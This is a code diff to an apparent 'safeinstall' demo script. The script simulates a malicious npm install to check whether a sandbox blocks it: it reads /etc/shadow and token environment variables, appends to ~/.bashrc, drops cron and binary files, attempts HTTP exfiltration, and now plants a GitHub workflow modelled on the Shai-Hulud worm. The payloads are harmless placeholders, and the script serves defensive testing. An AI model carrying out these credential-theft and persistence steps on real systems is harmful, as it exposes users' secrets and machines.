@@ -51,6 +51,9 @@ function stealFile(file) {
   try {
     const data = fs.readFileSync(file, 'utf8');
     if (data.length === 0) return say('BLOCKED', what, 'reads as empty (hidden)');
+    // A config file can be carried over with its credentials removed: only a secret is loot.
+    if (!/PRIVATE KEY|_authToken=\S|_password=\S|^[^:\n]+:\$/m.test(data))
+      return say('BLOCKED', what, `${data.length} bytes without any credential in them`);
     loot[file] = data.length;
     leaked(what, `got ${data.length} bytes`);
   } catch (err) {
@@ -76,6 +79,20 @@ function persistInBashrc() {
     else say('WROTE', 'append to ~/.bashrc', `created ${rc} in an empty home (throwaway?)`);
   } catch (err) {
     blocked('append to ~/.bashrc', err);
+  }
+}
+
+// A CI workflow planted in the project (Shai-Hulud's .github/workflows/shai-hulud-workflow.yml
+// ran on the victim's next push, with the repository's secrets).
+function plantWorkflow() {
+  const project = process.env.INIT_CWD || __dirname;
+  const file = path.join(project, '.github', 'workflows', 'safeinstall-demo.yml');
+  try {
+    fs.mkdirSync(path.dirname(file), { recursive: true });
+    fs.writeFileSync(file, '# safeinstall demo: a real attack would run its payload in CI here\non: push\n');
+    say('WROTE', 'plant .github/workflows in project', 'written (harmless only if staged and held)');
+  } catch (err) {
+    blocked('plant .github/workflows in project', err);
   }
 }
 
@@ -140,6 +157,7 @@ async function main() {
   stealFile('/etc/shadow');
   ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY'].forEach(stealEnv);
   persistInBashrc();
+  plantWorkflow();
   dropFile('/usr/local/bin/evil', '#!/bin/sh\necho "safeinstall demo: this file should not exist"\n');
   dropFile('/etc/cron.d/evil', '# safeinstall demo: a real attack would schedule its payload here\n');
   await exfiltrateHttp();
